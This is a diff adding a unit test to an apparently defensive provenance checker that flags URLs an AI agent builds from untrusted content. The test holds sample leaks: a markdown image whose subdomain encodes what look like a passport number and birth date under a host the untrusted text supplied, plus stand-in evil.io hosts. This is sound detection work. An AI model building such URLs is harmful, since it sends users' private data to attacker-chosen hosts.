@@ -115,6 +115,23 @@ class TestIdentifiersInText:
         session = ProvenanceIndex(parent=guard_level)
         assert session.origin("https://portal.partner.de/s?id=7").constructed is False
 
+    def test_a_new_host_under_or_beside_one_untrusted_content_named_is_constructed(self) -> None:
+        # The content gives a template host; the agent fills the data into its first label.
+        idx = index(
+            "book the guesthouse", "badge at https://PASSPORT-DOB.prereg.checkin.pt/badge.png"
+        )
+        leak = idx.origin("![b](https://g48127733-19880417.prereg.checkin.pt/badge.png)")
+        assert leak.constructed is True and leak.provenance == UNTRUSTED
+        # Under a host the content named as such.
+        named = index(None, "mail us at hello@evil.io")
+        assert named.origin("see https://q3-figures.evil.io/x.png").constructed is True
+        # Two-label parents are not compared: "co.uk" is not a domain anyone owns.
+        uk = index(None, "see https://shop.evil.co.uk/deal")
+        assert uk.origin("see https://www.bbc.co.uk/news").constructed is False
+        # A host trusted input named is not the content's.
+        both = index("our portal is https://eu.prereg.checkin.pt/", "https://x.prereg.checkin.pt/")
+        assert both.origin("https://eu.prereg.checkin.pt/status").constructed is False
+
     def test_a_host_trusted_input_names_after_a_lookup_still_counts(self) -> None:
         # Hosts of trusted text are worked out when first needed; later text must not be
         # skipped by that.
